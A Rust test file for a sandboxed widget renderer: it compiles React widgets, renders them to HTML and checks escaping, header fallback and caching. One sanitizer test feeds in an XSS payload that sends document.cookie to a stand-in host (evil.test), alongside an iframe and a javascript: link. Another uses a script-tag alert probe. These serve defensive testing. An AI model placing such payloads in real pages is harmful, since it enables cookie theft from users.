//! Well-formed widgets travel the whole pipeline and come out as markup.

use aiwidget::{
    ExecutionOutcome, HeadersMap, RenderProps, SandboxExecutor, SourceCompiler, WidgetRenderBoundary,
};

const EXPORT: &str = "WidgetComponent";

const STATUS_WIDGET: &str = r#"
import React, { useState } from "react";

type Props = { headersMap: Record<string, string>; darkMode: boolean };

export const WidgetComponent: React.FC<Props> = ({ headersMap, darkMode }) => {
  const [items] = useState<string[]>(["alpha", "beta"]);
  const token = headersMap["x-api-key"] ?? "none";
  return (
    <section className={darkMode ? "dark" : "light"}>
      <h2>Key: {token}</h2>
      <ul>
        {items.map((item) => (
          <li key={item}>{item}</li>
        ))}
      </ul>
    </section>
  );
};
"#;

fn props(dark: bool) -> RenderProps {
    RenderProps::new(HeadersMap::parse_permissive(r#"{"x-api-key":"abc"}"#), dark)
}

#[test]
fn typed_widget_renders_with_headers_and_mode() {
    let mut boundary = WidgetRenderBoundary::new(SandboxExecutor::default(), STATUS_WIDGET, EXPORT);
    assert!(boundary.outcome().is_success());

    assert_eq!(
        boundary.render(&props(false)),
        "<section class=\"light\"><h2>Key: abc</h2><ul><li>alpha</li><li>beta</li></ul></section>"
    );
    assert!(boundary.render(&props(true)).starts_with("<section class=\"dark\">"));
    assert_eq!(boundary.load_count(), 1);
}

#[test]
fn missing_header_falls_back_inside_the_widget() {
    let mut boundary = WidgetRenderBoundary::new(SandboxExecutor::default(), STATUS_WIDGET, EXPORT);
    let html = boundary.render(&RenderProps::new(HeadersMap::default(), false));
    assert!(html.contains("<h2>Key: none</h2>"), "{html}");
}

#[test]
fn rendered_text_is_escaped() {
    let source = r#"export const WidgetComponent = () => <p title={"a\"b"}>{"<script>alert(1)</script>"}</p>;"#;
    let mut boundary = WidgetRenderBoundary::new(SandboxExecutor::default(), source, EXPORT);
    assert_eq!(
        boundary.render(&RenderProps::default()),
        "<p title=\"a&quot;b\">&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    );
}

#[test]
fn active_elements_and_script_urls_never_reach_the_page() {
    let source = r#"export const WidgetComponent = () => (
  <div className="card">
    <script>{"fetch('https://evil.test/?c=' + document.cookie)"}</script>
    <style>{"body { display: none }"}</style>
    <iframe src="https://evil.test" />
    <a href="javascript:alert(1)">open</a>
  </div>
);"#;
    let mut boundary = WidgetRenderBoundary::new(SandboxExecutor::default(), source, EXPORT);
    let html = boundary.render(&RenderProps::default());
    assert_eq!(html, "<div class=\"card\"><a>open</a></div>");
}

#[test]
fn compiled_modules_are_shared_by_executors_on_one_compiler() {
    let compiler = SourceCompiler::new();
    let executor = SandboxExecutor::new(compiler.clone());
    let first = compiler.compile(STATUS_WIDGET, EXPORT).unwrap();
    assert!(matches!(executor.load(STATUS_WIDGET, EXPORT), ExecutionOutcome::Success(_)));
    assert_eq!(compiler.cached_entries(), 1);

    let second = compiler.compile(STATUS_WIDGET, EXPORT).unwrap();
    assert_eq!(first.digest(), second.digest());
    assert!(!second.executable_body().contains("headersMap: Record"));
}
